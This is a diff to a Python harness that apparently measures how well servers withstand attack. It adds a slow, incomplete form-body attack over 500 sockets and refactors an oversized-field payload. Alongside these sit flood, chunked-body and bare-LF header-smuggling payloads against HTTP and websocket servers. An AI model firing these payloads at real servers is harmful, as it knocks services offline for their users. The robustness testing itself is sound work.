@@ -43,7 +43,8 @@ class Attack(NamedTuple):
     first: bytes = b""
     """What is sent before the first unit."""
     opening: str = "upgrade"
-    """``upgrade`` (a websocket's handshake), ``half`` (its beginning), or nothing."""
+    """``upgrade`` (a websocket's handshake), ``half`` (its beginning), ``body`` (of a form, all but
+    its last byte), or nothing."""
     reads: bool = True
     at_once: int = FLOOD_BYTES
     sockets: int = SOCKETS
@@ -67,6 +68,9 @@ FILES = b"".join(
 )
 
 
+FORM = sized("application/x-www-form-urlencoded", b"&" * 65_536)
+
+
 def frame(first: int, payload: bytes = b"") -> bytes:
     """Return a masked frame under 64 KiB; the mask is zero."""
     size = len(payload)
@@ -86,10 +90,11 @@ ATTACKS = {
     "handshakes": Attack(closes=True),
     "pages": Attack(b"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n", opening="", at_once=4096),
     "chunks": Attack(post("Transfer-Encoding: chunked\r\n", CHUNKS), opening=""),
+    "bodies": Attack(opening="body", sockets=500),
     # A parser that forgives takes the second line for a field of its own.
     "hidden-chunks": Attack(post("X: x\nTransfer-Encoding: chunked\r\n", CHUNKS), opening=""),
     "files": Attack(sized("multipart/form-data; boundary=x", FILES + b"--x--\r\n"), opening=""),
-    "fields": Attack(sized("application/x-www-form-urlencoded", b"&" * 65_536), opening=""),
+    "fields": Attack(FORM, opening=""),
     "burn": Attack(),
 }
 """Attacks by name. ``burn`` sends nothing: it only keeps a core busy, for comparison."""
@@ -109,6 +114,8 @@ class Target(NamedTuple):
     def opening(self, kind: str) -> bytes:
         if not kind:
             return b""
+        if kind == "body":
+            return FORM.replace(b"{host}", self.host.encode())[:-1]
         head = (
             f"GET {self.path} HTTP/1.1\r\nHost: {self.host}\r\nOrigin: http://{self.host}\r\n"
             "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
